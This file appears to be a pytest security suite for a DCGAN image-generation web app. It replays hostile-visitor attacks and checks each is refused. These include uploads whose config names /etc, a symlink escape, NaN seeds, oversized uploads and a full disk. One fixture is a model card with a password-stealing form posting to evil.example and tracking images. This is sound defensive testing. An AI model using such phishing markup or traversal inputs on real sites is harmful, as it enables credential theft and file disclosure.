"""Issue 12, as a hostile visitor tries it: server folders named by an uploaded model, other visitors'
uploads and cards, session memory, bad numbers, server paths and tracebacks in messages, uploads that
fill the disk, and the CLI on a full disk. Each test reproduces the attack and checks it now fails
cleanly while the server keeps answering."""

import datetime
import json
import os
import pickle
import resource
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from contextlib import contextmanager
from pathlib import Path
from types import SimpleNamespace
from urllib.error import HTTPError
from urllib.parse import urlencode
from urllib.request import Request, urlopen

import pytest

pytest.importorskip("gradio")
gradio_client = pytest.importorskip("gradio_client")
from browser.app_server import free_port, tiny_model_folder  # noqa: E402
from markdown_it import MarkdownIt  # noqa: E402  (a gradio dependency)

from dcgan.cli.main import main  # noqa: E402
from dcgan.errors import DcganError  # noqa: E402
from dcgan.serve.hosting import HostLimits, openable_data  # noqa: E402
from dcgan.serve.uploads import prune_uploads  # noqa: E402
from dcgan.store.model_files import CONFIG_FILE  # noqa: E402
from dcgan.ui.housekeeping import expire_idle_sessions, limit_gradio_uploads  # noqa: E402
from dcgan.ui.session import MAX_SEED, VisitorState, apply_query  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
LIMITS = HostLimits(max_upload_mb=1, host_token="host-secret")


@contextmanager
def hosted_app(root: Path, limits: HostLimits):
    """The app serving the models under root/checkpoints with `limits`; yields (url, demo, root)."""
    from dcgan.ui import build_app, launch

    demo = build_app(root / "checkpoints", root / "runs", root / "uploads", warm_default=False, limits=limits)
    port = free_port()
    launch(demo, server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
    try:
        yield f"http://127.0.0.1:{port}/", demo, root
    finally:
        demo.close()


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    """The app with a tiny model and a 1 MB upload limit; yields (url, demo, root)."""
    root = tmp_path_factory.mktemp("hosted")
    tiny_model_folder(root / "checkpoints" / "tiny-fashion")
    with hosted_app(root, LIMITS) as served:
        yield served


def visitor(app) -> gradio_client.Client:
    return gradio_client.Client(app[0], verbose=False)


def assert_still_serving(app) -> None:
    """The issue's bar after each attack: the server answers the next visitor within a second. The best of
    three requests counts: a server still busy with the attack is slow for all three, a noisy machine not."""
    client = visitor(app)
    seconds = []
    for seed in (3, 4, 5):
        started = time.perf_counter()
        assert client.predict(seed, api_name="/walk_seed")[0] == seed
        seconds.append(time.perf_counter() - started)
    assert min(seconds) < 1.0, seconds


def model_zip(folder: Path, out: Path, data: str = "fashion-mnist", card: str | None = None) -> Path:
    """Our folder format as a .zip, its config.json claiming `data` as its training set."""
    config = json.loads((folder / CONFIG_FILE).read_text())
    config["train"]["data"] = data
    with zipfile.ZipFile(out, "w") as zipped:
        zipped.writestr(CONFIG_FILE, json.dumps(config))
        zipped.write(folder / "model.safetensors", "model.safetensors")
        zipped.write(folder / "discriminator.safetensors", "discriminator.safetensors")
        if card is not None:
            zipped.writestr("README.md", card)
    return out


def upload(client, archive: Path) -> tuple:
    return client.predict(gradio_client.handle_file(str(archive)), api_name="/upload_model")


# ---- 3: an uploaded model must not name a server folder -------------------------------------------------


def test_a_model_naming_a_server_folder_gets_no_file_from_it(app, tmp_path):
    client = visitor(app)
    archive = model_zip(tiny_model_folder(tmp_path / "m", seed=3), tmp_path / "etc-reader.zip", data="/etc")
    choice, *_ = upload(client, archive)
    assert choice["value"].startswith("upload: etc-reader-")
    for endpoint in ("/dataset_example", "/inside_dataset_example"):
        with pytest.raises(Exception, match="not one the server shares") as refused:
            client.predict(api_name=endpoint)
        assert "passwd" not in str(refused.value) and "/etc" not in str(refused.value)
    assert client.predict(5, api_name="/walk_seed")[0] == 5  # the session still works
    assert_still_serving(app)


def test_only_registered_datasets_and_folders_under_the_data_roots_open(tmp_path, monkeypatch):
    (tmp_path / "data" / "faces").mkdir(parents=True)
    (tmp_path / "data" / "out").symlink_to("/etc")
    monkeypatch.setenv("DCGAN_DATA_ROOTS", str(tmp_path / "data"))
    assert openable_data("fashion-mnist") == "fashion-mnist" and openable_data("emoji") == "emoji"
    assert openable_data(str(tmp_path / "data" / "faces"))
    for outside in ("/etc", str(tmp_path / "data" / "out"), str(tmp_path / "data" / ".." / "..")):
        with pytest.raises(DcganError, match="not one the server shares"):
            openable_data(outside)
    from dcgan.ui.training import resolve_server_folder, server_folders

    listed = server_folders()  # what the Train tab offers
    assert str((tmp_path / "data" / "faces").resolve()) in listed and not any(f.endswith("out") for f in listed)
    with pytest.raises(DcganError, match="listed server folders"):
        resolve_server_folder(str(tmp_path / "data" / "out"))


# ---- 6: a visitor's uploads are theirs; a stranger's card is text ------------------------------------------

HOSTILE_CARD = """# Totally normal model
<form action="http://evil.example/steal"><input type="password" name="pw"></form>
![tracker](http://evil.example/pixel.png)
<img src="http://evil.example/pixel2.png">
````
"""


def test_uploads_are_listed_only_to_their_uploader_and_cards_render_as_text(app, tmp_path):
    uploader, other = visitor(app), visitor(app)
    archive = model_zip(tiny_model_folder(tmp_path / "m", seed=4), tmp_path / "private.zip", card=HOSTILE_CARD)
    choice, _facts, card, _banner = upload(uploader, archive)
    name = choice["value"]
    assert name in [value for _label, value in choice["choices"]]
    html = MarkdownIt("commonmark").render(card)  # what the page renders (gradio's markdown is CommonMark)
    assert "<form" not in html and "<input" not in html and "<img" not in html
    assert "evil.example/steal" in html  # shown, as text

    theirs = other.predict("tiny-fashion", api_name="/pick_model")[0]
    assert name not in [value for _label, value in theirs["choices"]]
    shared = other.predict(name, api_name="/pick_model")  # a link the uploader sent still opens it
    assert shared[0]["value"] == name and "<img" not in MarkdownIt("commonmark").render(shared[2])
    shipped_card = other.predict("tiny-fashion", api_name="/pick_model")[2]
    assert "plain text" not in shipped_card  # the server's own models keep their Markdown


# ---- 7: small state, idle sessions forgotten -----------------------------------------------------------------


def test_state_holds_settings_not_pixels_and_idle_sessions_are_forgotten(app):
    _url, demo, _root = app
    client = visitor(app)
    client.predict(7, api_name="/walk_seed")
    client.predict("generated", 3, None, api_name="/inside_look")
    holder = demo.state_holder
    session = holder.session_data[client.session_hash]
    state = next(value for value in session.state_data.values() if isinstance(value, VisitorState))
    assert state.inside == {"source": "generated", "seed": 3, "path": None}
    assert len(pickle.dumps(state)) < 3000  # seeds and settings; an image as nested lists was ~30-400 KB

    holder.time_last_used[client.session_hash] = datetime.datetime.now() - datetime.timedelta(hours=2)
    assert expire_idle_sessions(demo, idle_seconds=3600) >= 1
    assert client.session_hash not in holder.session_data
    assert client.predict(8, api_name="/walk_seed")[0] == 8  # the visitor comes back to a fresh session


# ---- 8: bad numbers ------------------------------------------------------------------------------------------


def preview(app, **params) -> tuple[int, bytes]:
    query = urlencode({"model": "tiny-fashion", "seed": 1, **params})
    try:
        with urlopen(f"{app[0]}walk-preview.png?{query}") as response:
            return response.status, response.read()
    except HTTPError as error:
        return error.code, error.read()


def raw_call(app, api_name: str, data_json: str, session_hash: str) -> str:
    """Call an endpoint with JSON that gradio_client will not send (NaN, Infinity); returns the final
    server-sent event ("event: complete" / "event: error" and its data)."""
    body = f'{{"data": {data_json}, "session_hash": "{session_hash}"}}'.encode()
    request = Request(f"{app[0]}gradio_api/call/{api_name}", data=body, headers={"Content-Type": "application/json"})
    with urlopen(request) as response:
        event_id = json.loads(response.read())["event_id"]
    with urlopen(f"{app[0]}gradio_api/call/{api_name}/{event_id}") as response:
        return response.read().decode()


def test_nan_and_huge_slider_values_are_refused_or_clamped(app):
    client = visitor(app)
    client.predict(1, api_name="/walk_seed")
    answer = raw_call(app, "walk_dim_0", "[NaN]", client.session_hash)  # NaN passes Gradio's bounds check
    assert "event: error" in answer and "finite number" in answer, answer
    answer = raw_call(app, "walk_dim_0", "[-Infinity]", client.session_hash)
    assert "event: error" in answer and "finite number" in answer, answer  # the value as sent (preprocess=False)
    image, query = client.predict(1.5, api_name="/walk_dim_0")  # the session still works
    assert "nan" not in query.lower() and "d=" in query

    status, body = preview(app, move="dim:0:1e308")
    assert status == 200  # clamped to the slider's end, not a server error
    assert body == preview(app, move="dim:0:3")[1]
    status, body = preview(app, move="dim:0:nan")
    assert status == 400 and b"finite" in body
    status, _ = preview(app, move="direction:999999999999:1")
    assert status == 200  # no such slider: the image as it was
    assert_still_serving(app)


def test_one_seed_range_everywhere(app):
    client = visitor(app)
    for bad in (2**64, 2**31, -1):
        with pytest.raises(Exception, match="seed|maximum|minimum"):
            client.predict(bad, api_name="/walk_seed")
    assert client.predict(0.5, api_name="/walk_dim_0")[1]  # the slider still works after a refused seed
    top = client.predict(MAX_SEED, api_name="/walk_seed")
    assert top[0] == MAX_SEED and f"seed={MAX_SEED}" in top[-1]
    restored = VisitorState()
    assert apply_query(restored, dict(pair.split("=", 1) for pair in top[-1].split("&"))) == []
    assert restored.walk.seed == MAX_SEED  # a shared link keeps the largest seed
    with pytest.raises(Exception, match="seed|maximum"):
        client.predict(1e30, 2, "seed", "seed", 9, 4, api_name="/interpolate")
    answer = raw_call(app, "interpolate", '[1, 2, "seed", "seed", NaN, 4]', client.session_hash)
    assert "event: error" in answer and "steps must be a whole number" in answer, answer


# ---- 9: messages show no server paths; expected errors leave no traceback ------------------------------------


def test_messages_name_no_server_paths_and_log_no_traceback(app, tmp_path, capfd):
    _url, _demo, root = app
    client = visitor(app)
    bad = tmp_path / "broken.pth"
    bad.write_bytes(b"PK\x03\x04 this is not really a zip")
    with pytest.raises(Exception) as refused:
        client.predict(gradio_client.handle_file(str(bad)), api_name="/upload_model")
    message = str(refused.value)
    assert "broken.pth" in message
    for server_path in ("/tmp/", str(root), os.path.expanduser("~")):
        assert server_path not in message
    assert "Traceback" not in capfd.readouterr().err
    assert_still_serving(app)


# ---- 5: uploads cannot fill the disk -----------------------------------------------------------------------


def test_an_upload_over_the_limit_is_refused_and_not_kept(app):
    url, demo, _root = app
    body = b"x" * (2 * 2**20)  # 2 MB against the 1 MB limit
    boundary = "dcganboundary"
    payload = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="big.pth"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        + body
        + f"\r\n--{boundary}--\r\n".encode()
    )
    request = Request(
        f"{url}gradio_api/upload", data=payload, headers={"Content-Type": f"multipart/form-data; boundary={boundary}"}
    )
    with pytest.raises(HTTPError) as refused:
        urlopen(request)
    assert refused.value.code == 413
    assert not any(Path(name).name == "big.pth" for name in demo.upload_file_set)
    assert_still_serving(app)


def make_upload(folder: Path, name: str, size: int, age_hours: float, now: float) -> Path:
    path = folder / name
    path.mkdir(parents=True)
    (path / "model.safetensors").write_bytes(b"\0" * size)
    os.utime(path, (now - age_hours * 3600,) * 2)
    return path


def test_uploads_expire_and_keep_within_their_quota(tmp_path):
    now = time.time()
    old = make_upload(tmp_path, "old", 10, age_hours=30, now=now)
    first = make_upload(tmp_path, "first", 600_000, age_hours=3, now=now)
    second = make_upload(tmp_path, "second", 600_000, age_hours=2, now=now)
    newest = make_upload(tmp_path, "newest", 100, age_hours=1, now=now)
    (tmp_path / "datasets").mkdir()
    limits = HostLimits(uploads_quota_mb=1.0, uploads_ttl_hours=24, host_token="x")
    removed = prune_uploads(tmp_path, limits, now=now)
    assert set(removed) == {old, first}  # expired, then the oldest until the rest fit 1 MB
    assert second.is_dir() and newest.is_dir() and (tmp_path / "datasets").is_dir()


def test_raw_uploads_in_gradios_cache_keep_within_the_quota(tmp_path):
    files = []
    for index in range(4):
        path = tmp_path / f"upload{index}.bin"
        path.write_bytes(b"\0" * 400_000)
        os.utime(path, (1000 + index,) * 2)
        files.append(str(path))
    demo = SimpleNamespace(upload_file_set=set(files))
    assert limit_gradio_uploads(demo, quota_bytes=900_000) == 2
    assert [Path(name).exists() for name in files] == [False, False, True, True]  # the oldest went first
    assert demo.upload_file_set == set(files[2:])


# ---- 9: the CLI on a full disk -----------------------------------------------------------------------------


def small_disk(folder: Path, size_kb: int) -> bool:
    """Mount a tmpfs of `size_kb` at `folder` when allowed (root with CAP_SYS_ADMIN); False otherwise."""
    folder.mkdir(parents=True)
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={size_kb}k", "tmpfs", str(folder)], capture_output=True
    )
    return mounted.returncode == 0


def test_a_full_disk_ends_the_cli_with_a_plain_message_and_the_checkpoint_intact(tmp_path, idx_folder):
    from dcgan.training.state import STATE_FILE, load_train_state

    disk = tmp_path / "disk"
    mounted = small_disk(disk, 2048)
    tiny = ["--image-size", "32", "--nz", "8", "--ngf", "8", "--ndf", "8", "--batch-size", "16"]
    run = disk / "run"
    assert main(["train", "--data", str(idx_folder), *tiny, "--steps", "2", "--out", str(run)]) == 0
    before = (run / STATE_FILE).read_bytes()
    try:
        if mounted:  # fill the disk to the last few bytes: the next checkpoint cannot fit
            free = shutil.disk_usage(disk).free
            (disk / "filler").write_bytes(b"\0" * max(0, free - 4096))
            limit_writes = None
        else:  # no tmpfs here: the kernel's per-process file size limit fails writes the same way (EFBIG)

            def limit_writes():
                signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
                resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))

        resumed = subprocess.run(
            [sys.executable, "-m", "dcgan", "train", "--resume", str(run), "--steps", "4"],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=300,
            preexec_fn=limit_writes,
        )
        assert resumed.returncode == 2, resumed.stderr
        assert "disk full" in resumed.stderr and "Traceback" not in resumed.stderr
        assert (run / STATE_FILE).read_bytes() == before  # the last good checkpoint, untouched
        assert load_train_state(run / STATE_FILE).step == 2
    finally:
        if mounted:
            subprocess.run(["umount", str(disk)], capture_output=True)
